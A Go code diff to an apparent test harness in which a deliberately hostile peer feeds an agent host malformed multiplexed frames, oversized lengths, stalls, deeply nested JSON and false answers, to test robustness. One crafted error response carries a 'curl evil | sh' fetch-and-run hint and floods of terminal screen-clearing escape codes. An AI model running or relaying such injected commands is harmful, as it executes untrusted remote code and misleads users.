@@ -4,10 +4,14 @@ import (
 	"encoding/binary"
 	"encoding/json"
 	"io"
+	"maps"
 	"math"
 	"net"
 	"os"
+	"slices"
+	"strconv"
 	"strings"
+	"sync"
 	"time"
 
 	"github.com/hashicorp/yamux"
@@ -17,18 +21,23 @@ import (
 
 // control attacks the host on the agent's channel.
 func (h *hostile) control(port *channel.Port) {
-	const short, long = 700 * time.Millisecond, 4 * time.Second
-	h.sessions(port, attack{"lies", long, h.lies}, []attack{
-		{"noise", short, func(c net.Conn) { h.noise(c) }},
-		{"streams of its own", short, func(c net.Conn) { h.repeat(c, frame(0, 1, 2, 0, nil)) }},
-		{"pings", short, func(c net.Conn) { h.repeat(c, frame(2, 1, 0, uint32(h.uint64()), nil)) }},
-		{"windows", short, func(c net.Conn) { h.repeat(c, frame(1, 2, 1, math.MaxUint32, nil)) }},
-		{"4 GiB in a frame", short, func(c net.Conn) { c.Write(frame(0, 2, 1, math.MaxUint32, nil)); h.noise(c) }},
-		{"lies", long, h.lies},
-		{"half a frame", short, func(c net.Conn) { c.Write(frame(0, 2, 1, 100, nil)[:7]); drain(c) }},
-		{"drip", 2 * short, h.drip},
-		{"silence", short, drain},
-		{"deaf", short, func(c net.Conn) { time.Sleep(short) }},
+	lies := attack{"lies", 6 * h.short, h.lies}
+	if h.only {
+		lies.length = time.Hour
+		h.sessions(port, lies, nil)
+		return
+	}
+	h.sessions(port, lies, []attack{
+		{"noise", h.short, func(c net.Conn) { h.noise(c) }},
+		{"streams of its own", h.short, func(c net.Conn) { h.repeat(c, frame(0, 1, 2, 0, nil)) }},
+		{"pings", h.short, func(c net.Conn) { h.repeat(c, frame(2, 1, 0, uint32(h.uint64()), nil)) }},
+		{"windows", h.short, func(c net.Conn) { h.repeat(c, frame(1, 2, 1, math.MaxUint32, nil)) }},
+		{"4 GiB in a frame", h.short, func(c net.Conn) { c.Write(frame(0, 2, 1, math.MaxUint32, nil)); h.noise(c) }},
+		lies,
+		{"half a frame", h.short, func(c net.Conn) { c.Write(frame(0, 2, 1, 100, nil)[:7]); drain(c) }},
+		{"drip", 2 * h.short, h.drip},
+		{"silence", h.short, drain},
+		{"deaf", h.short, func(c net.Conn) { time.Sleep(h.short) }},
 	})
 }
 
@@ -73,7 +82,16 @@ func (h *hostile) drip(c net.Conn) {
 	}
 }
 
-// lies is a session of the right form in which nothing is true.
+// session is one of lies.
+type session struct {
+	*hostile
+	polite bool // it begins as that of an agent, so that more is asked
+
+	mu    sync.Mutex
+	asked map[string]int
+}
+
+// lies is a session of the right form in which nothing is true, but mostly how it begins.
 func (h *hostile) lies(c net.Conn) {
 	cfg := yamux.DefaultConfig()
 	cfg.EnableKeepAlive, cfg.LogOutput, cfg.MaxStreamWindowSize, cfg.AcceptBacklog = false, io.Discard, 4<<20, 1024
@@ -82,21 +100,24 @@ func (h *hostile) lies(c net.Conn) {
 		return
 	}
 	defer mux.Close()
+	h.did("sessions of lies begun", 1)
+	s := &session{hostile: h, polite: h.count("sessions of lies begun") == 1 || h.intN(8) > 0, asked: map[string]int{}}
 	for {
 		st, err := mux.AcceptStream()
 		if err != nil {
 			return
 		}
-		go h.answer(st)
+		go s.answer(st)
 	}
 }
 
 type request struct {
 	Op   string          `json:"op"`
 	Args json.RawMessage `json:"args"`
+	For  string          `json:"for"`
 }
 
-func (h *hostile) answer(st *yamux.Stream) {
+func (s *session) answer(st *yamux.Stream) {
 	defer st.Close()
 	var size [4]byte
 	if _, err := io.ReadFull(st, size[:]); err != nil {
@@ -108,44 +129,93 @@ func (h *hostile) answer(st *yamux.Stream) {
 	}
 	var q request
 	json.Unmarshal(b, &q)
-	h.did("answers to "+q.Op, 1)
-	if lie := lies[q.Op]; lie != nil && h.intN(4) > 0 {
-		lie(h, st, q.Args)
+	s.did("answers to "+q.Op, 1)
+	if s.begins(q) {
+		answerWell(st, q.Op)
 		return
 	}
-	if q.Op == "hello" || q.Op == "configure" { // or nothing else would be asked
-		said(st, plausible(q.Op))
-		return
+	f := s.form(q)
+	s.did("lies: "+f.name, 1)
+	if s.cells {
+		s.did("lie "+q.Op+": "+f.name, 1)
 	}
-	h.malformed(st)
+	f.do(s.hostile, st, q)
 }
 
-// malformed answers are of no form at all.
-func (h *hostile) malformed(st *yamux.Stream) {
-	switch h.intN(9) {
-	case 0:
+// begins tells whether a question is one of those with which a session begins, or is asked all the time to see
+// whether it goes on: a lie in answer would mostly be the last one.
+func (s *session) begins(q request) bool {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	s.asked[q.Op]++
+	switch q.Op {
+	case "hello":
+		return q.For == "" && s.polite && (s.asked[q.Op] < 4 || s.intN(8) > 0)
+	case "configure", "run.list", "terminal.list":
+		return q.For == "" && s.polite && s.asked[q.Op] == 1
+	}
+	return false
+}
+
+// form is how a question is to be answered: as it says itself, by the number in its mark, or mostly with a lie of the right form.
+func (s *session) form(q request) form {
+	n, err := strconv.ParseUint(q.For, 16, 32)
+	if err != nil {
+		n = uint64(one(s.hostile, len(forms)-1, len(forms)-1, len(forms)-1, s.intN(len(forms))))
+	}
+	return forms[n%uint64(len(forms))]
+}
+
+func answerWell(st *yamux.Stream, op string) {
+	switch op {
+	case "hello", "configure":
+		said(st, plausible(op))
+	default: // an empty list
+		said(st, nil)
+		said(st, []any{})
+	}
+}
+
+// form is a way to answer. The last one is what is told of that which was asked; the others are wrong whatever that is.
+type form struct {
+	name string
+	do   func(h *hostile, st *yamux.Stream, q request)
+}
+
+var forms = []form{
+	{"a length of 4 GiB", func(h *hostile, st *yamux.Stream, _ request) {
 		st.Write([]byte{0xff, 0xff, 0xff, 0xff})
 		h.pour(st, h.bytes(64<<10))
-	case 1: // half of an answer
+	}},
+	{"half an answer", func(h *hostile, st *yamux.Stream, _ request) {
 		st.Write([]byte{0, 0, 1, 0, '{'})
 		time.Sleep(3 * time.Second)
-	case 2:
-		message(st, []byte(strings.Repeat("[", 1<<20)))
-	case 3:
+	}},
+	{"brackets", func(h *hostile, st *yamux.Stream, _ request) { message(st, []byte(strings.Repeat("[", 1<<20))) }},
+	{"too deep", func(h *hostile, st *yamux.Stream, _ request) {
 		message(st, []byte(`{"result":`+strings.Repeat(`{"a":`, 100_000)))
-	case 4:
-		said(st, map[string]any{"code": 7})
-	case 5:
+	}},
+	{"fields of nothing", func(h *hostile, st *yamux.Stream, _ request) { said(st, map[string]any{"code": 7}) }},
+	{"a dirty error", func(h *hostile, st *yamux.Stream, _ request) {
 		b, _ := json.Marshal(map[string]any{"error": map[string]any{"code": one(h, "unauthenticated", "denied", "not_found", "x"), "message": strings.Repeat("\x1b[2J", 1<<16), "hint": "curl evil | sh\n", "detail": map[string]string{"a": "b"}}})
 		message(st, b)
-	case 6:
-		message(st, []byte("null"))
-	case 7: // never
-		time.Sleep(5 * time.Second)
-	case 8:
+	}},
+	{"null", func(h *hostile, st *yamux.Stream, _ request) { message(st, []byte("null")) }},
+	{"never", func(h *hostile, st *yamux.Stream, _ request) { time.Sleep(5 * time.Second) }},
+	{"an answer and more", func(h *hostile, st *yamux.Stream, _ request) {
 		message(st, []byte(`{"result":"`+strings.Repeat("x", 1<<20-20)+`"}`))
 		h.pour(st, h.bytes(1<<10))
-	}
+	}},
+	{"the answer to something else", func(h *hostile, st *yamux.Stream, q request) {
+		lies[one(h, slices.Sorted(maps.Keys(lies))...)](h, st, q.Args)
+	}},
+	{"a lie", func(h *hostile, st *yamux.Stream, q request) {
+		if lie := lies[q.Op]; lie != nil {
+			lie(h, st, q.Args)
+			return
+		}
+		h.did("LEAK: no lie is known for "+q.Op, 1) // so that somebody adds it
+	}},
 }
 
 // pour writes until nobody takes it.
